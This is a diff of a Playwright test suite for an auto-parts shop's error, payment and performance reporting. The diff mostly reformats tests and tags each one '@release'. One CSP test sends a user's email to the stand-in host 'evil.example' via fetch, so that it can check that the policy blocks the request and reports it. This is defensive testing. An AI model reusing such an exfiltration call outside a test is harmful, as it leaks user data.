@@ -48,48 +48,56 @@ async function expectReports(receiver: Receiver, page: Page, ...expected: object
     expect(text).not.toContain(personal)
 }
 
-test('an error that nobody caught arrives once, without what a person typed', async ({ page, receiver }) => {
-  await open(page, './parts?q=Rina')
-  await page.evaluate(
-    (text) =>
-      void setTimeout(() => {
-        throw new RangeError(text)
+test(
+  'an error that nobody caught arrives once, without what a person typed',
+  { tag: '@release' },
+  async ({ page, receiver }) => {
+    await open(page, './parts?q=Rina')
+    await page.evaluate(
+      (text) =>
+        void setTimeout(() => {
+          throw new RangeError(text)
+        }),
+      `Invalid array length for "${rina.name}" ${rina.email}`,
+    )
+    await throwError(page, `${rina.name} is not a function`)
+    await throwError(page, `${rina.name} is not a function`)
+    const body = { page: 'parts', stack: [] }
+    await expectReports(
+      receiver,
+      page,
+      { type: 'error', body: { ...body, source: 'window', name: 'RangeError', message: 'invalid …' } },
+      { type: 'error', body: { ...body, source: 'promise', name: 'TypeError', message: '… is not a function' } },
+    )
+  },
+)
+
+test(
+  'an error that a boundary caught names its place in the shop’s files',
+  { tag: '@release' },
+  async ({ page, receiver }) => {
+    await page.route('**/assets/AboutRoute-*.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: `export function AboutRoute() { throw new TypeError('${rina.name} is not a function') }`,
       }),
-    `Invalid array length for "${rina.name}" ${rina.email}`,
-  )
-  await throwError(page, `${rina.name} is not a function`)
-  await throwError(page, `${rina.name} is not a function`)
-  const body = { page: 'parts', stack: [] }
-  await expectReports(
-    receiver,
-    page,
-    { type: 'error', body: { ...body, source: 'window', name: 'RangeError', message: 'invalid …' } },
-    { type: 'error', body: { ...body, source: 'promise', name: 'TypeError', message: '… is not a function' } },
-  )
-})
+    )
+    await open(page, './')
+    await openFromMenu(page, 'About')
+    await expect(heading(page, 'This could not be loaded')).toBeVisible()
+    await expectReports(receiver, page, {
+      type: 'error',
+      body: {
+        source: 'boundary',
+        name: 'TypeError',
+        page: 'about',
+        stack: expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)]),
+      },
+    })
+  },
+)
 
-test('an error that a boundary caught names its place in the shop’s files', async ({ page, receiver }) => {
-  await page.route('**/assets/AboutRoute-*.js', (route) =>
-    route.fulfill({
-      contentType: 'text/javascript',
-      body: `export function AboutRoute() { throw new TypeError('${rina.name} is not a function') }`,
-    }),
-  )
-  await open(page, './')
-  await openFromMenu(page, 'About')
-  await expect(heading(page, 'This could not be loaded')).toBeVisible()
-  await expectReports(receiver, page, {
-    type: 'error',
-    body: {
-      source: 'boundary',
-      name: 'TypeError',
-      page: 'about',
-      stack: expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)]),
-    },
-  })
-})
-
-test('code that the host no longer has', async ({ page, receiver }) => {
+test('code that the host no longer has', { tag: '@release' }, async ({ page, receiver }) => {
   await page.route('**/assets/AboutRoute-*.js', (route) => route.fulfill({ status: 404 }))
   await open(page, './')
   await openFromMenu(page, 'About')
@@ -97,7 +105,7 @@ test('code that the host no longer has', async ({ page, receiver }) => {
   await expectReports(receiver, page, { type: 'missing-code', body: { reason: 'newVersion' } })
 })
 
-test('a call that failed for good, by name, kind and status', async ({ page, receiver }) => {
+test('a call that failed for good, by name, kind and status', { tag: '@release' }, async ({ page, receiver }) => {
   await page.route('**/api/parts', (route) => route.fulfill({ status: 403, body: `{"message":"${rina.email}"}` }))
   await open(page, './contact')
   await openFromMenu(page, 'Tools')
@@ -107,79 +115,84 @@ test('a call that failed for good, by name, kind and status', async ({ page, rec
   })
 })
 
-test('charged but not recorded, then recovered: with the ids by which it can be looked up', async ({
-  page,
-  receiver,
-  cardProvider,
-}) => {
-  await createAccount(rina)
-  const order = await placeOrder(rina, 'brake-rotor-345', 22)
-  await page.route('**/api/mypurchase/*', (route) =>
-    route.request().method() === 'PATCH' ? route.abort() : route.fallback(),
-  )
-  await open(page, `./dashboard/payment/${order}`)
-  await logIn(page, rina)
-  await enterCard(page, cards.good)
-  await page.getByRole('button', { name: /Payment Confirm/ }).click()
-  await expect(page.getByText('Payment Success')).toBeVisible()
-  const unrecorded = {
-    type: 'payment',
-    body: { state: 'unrecorded', orderId: order, transactionId: expect.stringMatching(/^pi_\w+$/), page: 'payment' },
-  }
-  const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
-  await expectReports(receiver, page, failedCall, unrecorded)
-
-  await page.unroute('**/api/mypurchase/*')
-  await page.goto('./dashboard/mypurchases')
-  await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
-  await expectReports(receiver, page, failedCall, unrecorded, {
-    type: 'payment',
-    body: { state: 'recovered', orderId: order },
-  })
-  expect(cardProvider.charges).toHaveLength(1)
-})
-
-test('a violation of the page’s policy, by origin; what the host’s policy forbids, the browser reports', async ({
-  page,
-  receiver,
-}) => {
-  await open(page, './')
-  await page.evaluate(async (email) => {
-    await fetch(`https://evil.example/collect?email=${email}`).catch(() => undefined)
-    document.head.append(
-      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
+test(
+  'charged but not recorded, then recovered: with the ids by which it can be looked up',
+  { tag: '@release' },
+  async ({ page, receiver, cardProvider }) => {
+    await createAccount(rina)
+    const order = await placeOrder(rina, 'brake-rotor-345', 22)
+    await page.route('**/api/mypurchase/*', (route) =>
+      route.request().method() === 'PATCH' ? route.abort() : route.fallback(),
     )
-  }, rina.email)
-  await expectReports(receiver, page, {
-    type: 'csp-violation',
-    body: {
-      effectiveDirective: 'connect-src',
-      blockedURL: 'https://evil.example',
-      disposition: 'enforce',
-      page: 'home',
-    },
-  })
-})
+    await open(page, `./dashboard/payment/${order}`)
+    await logIn(page, rina)
+    await enterCard(page, cards.good)
+    await page.getByRole('button', { name: /Payment Confirm/ }).click()
+    await expect(page.getByText('Payment Success')).toBeVisible()
+    const unrecorded = {
+      type: 'payment',
+      body: { state: 'unrecorded', orderId: order, transactionId: expect.stringMatching(/^pi_\w+$/), page: 'payment' },
+    }
+    const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
+    await expectReports(receiver, page, failedCall, unrecorded)
 
-test('the vitals of a visit’s first page, when it is left', async ({ browser, reportingSite, receiver }) => {
-  const page = await browser.newPage()
-  await open(page, `${reportingSite}parts?q=Rina`)
-  await page.waitForLoadState('networkidle')
-  await page.goto(`${reportingSite}about`)
-  await expect
-    .poll(() => receiver.vitals)
-    .toMatchObject([
-      {
-        url: `${reportingSite}parts`,
-        body: { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' },
+    await page.unroute('**/api/mypurchase/*')
+    await page.goto('./dashboard/mypurchases')
+    await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
+    await expectReports(receiver, page, failedCall, unrecorded, {
+      type: 'payment',
+      body: { state: 'recovered', orderId: order },
+    })
+    expect(cardProvider.charges).toHaveLength(1)
+  },
+)
+
+test(
+  'a violation of the page’s policy, by origin; what the host’s policy forbids, the browser reports',
+  { tag: '@release' },
+  async ({ page, receiver }) => {
+    await open(page, './')
+    await page.evaluate(async (email) => {
+      await fetch(`https://evil.example/collect?email=${email}`).catch(() => undefined)
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
+      )
+    }, rina.email)
+    await expectReports(receiver, page, {
+      type: 'csp-violation',
+      body: {
+        effectiveDirective: 'connect-src',
+        blockedURL: 'https://evil.example',
+        disposition: 'enforce',
+        page: 'home',
       },
-    ])
-  await page.goto(`${reportingSite}contact`)
-  await page.close()
-  expect(receiver.vitals).toHaveLength(1)
-})
+    })
+  },
+)
 
-test('what happens offline arrives when the line is back', async ({ page, context, receiver }) => {
+test(
+  'the vitals of a visit’s first page, when it is left',
+  { tag: '@release' },
+  async ({ browser, reportingSite, receiver }) => {
+    const page = await browser.newPage()
+    await open(page, `${reportingSite}parts?q=Rina`)
+    await page.waitForLoadState('networkidle')
+    await page.goto(`${reportingSite}about`)
+    await expect
+      .poll(() => receiver.vitals)
+      .toMatchObject([
+        {
+          url: `${reportingSite}parts`,
+          body: { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' },
+        },
+      ])
+    await page.goto(`${reportingSite}contact`)
+    await page.close()
+    expect(receiver.vitals).toHaveLength(1)
+  },
+)
+
+test('what happens offline arrives when the line is back', { tag: '@release' }, async ({ page, context, receiver }) => {
   await open(page, './contact')
   await context.setOffline(true)
   await throwError(page, 'x is not a function')
@@ -190,40 +203,45 @@ test('what happens offline arrives when the line is back', async ({ page, contex
 })
 
 for (const how of ['refusing', 'silently'] as const)
-  test(`a receiver that answers ${how} changes nothing for the customer`, async ({ page, receiver }) => {
-    receiver.answer(how)
+  test(
+    `a receiver that answers ${how} changes nothing for the customer`,
+    { tag: '@release' },
+    async ({ page, receiver }) => {
+      receiver.answer(how)
+      await open(page, './')
+      await throwError(page, 'x is not a function')
+      await page.waitForRequest((request) => request.method() === 'POST')
+      for (const link of ['About Us', 'Contact']) {
+        await openFromMenu(page, link)
+        await expect(heading(page, new RegExp(link, 'i'))).toBeVisible()
+      }
+      expect(receiver.reports).toEqual([])
+    },
+  )
+
+test(
+  'a blocked receiver changes nothing, and gets the report on the next visit without the blocker',
+  { tag: '@release' },
+  async ({ page, receiver }) => {
+    await page.route(`${reportUrl}**`, (route) => route.abort('blockedbyclient'))
     await open(page, './')
     await throwError(page, 'x is not a function')
     await page.waitForRequest((request) => request.method() === 'POST')
-    for (const link of ['About Us', 'Contact']) {
-      await openFromMenu(page, link)
-      await expect(heading(page, new RegExp(link, 'i'))).toBeVisible()
-    }
-    expect(receiver.reports).toEqual([])
-  })
+    await openFromMenu(page, 'Contact')
+    await expect(heading(page, /contact/i)).toBeVisible()
+    // A page that is left sends once more: that must be blocked, too.
+    await page.goto('about:blank')
+    await page.unroute(`${reportUrl}**`)
+    await page.goto('./about')
+    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'home' } })
+  },
+)
 
-test('a blocked receiver changes nothing, and gets the report on the next visit without the blocker', async ({
-  page,
-  receiver,
-}) => {
-  await page.route(`${reportUrl}**`, (route) => route.abort('blockedbyclient'))
-  await open(page, './')
-  await throwError(page, 'x is not a function')
-  await page.waitForRequest((request) => request.method() === 'POST')
-  await openFromMenu(page, 'Contact')
-  await expect(heading(page, /contact/i)).toBeVisible()
-  // A page that is left sends once more: that must be blocked, too.
-  await page.goto('about:blank')
-  await page.unroute(`${reportUrl}**`)
-  await page.goto('./about')
-  await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'home' } })
-})
-
-test('without VITE_REPORT_URL nothing of it is announced', () => {
+test('without VITE_REPORT_URL nothing of it is announced', { tag: '@release' }, () => {
   expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
 })
 
-test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', ({ reportingDir }) => {
+test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', { tag: '@release' }, ({ reportingDir }) => {
   const firstLoadOf = (dir: string) => gzippedKB(dir, scriptsOf(readManifest(dir), 'index.html'))
   expect(firstLoadOf(reportingDir) - firstLoadOf('dist')).toBeLessThan(0.3)
   const rest = Object.entries(readManifest(reportingDir)).find(([key]) => key.endsWith('/sendReports.ts'))
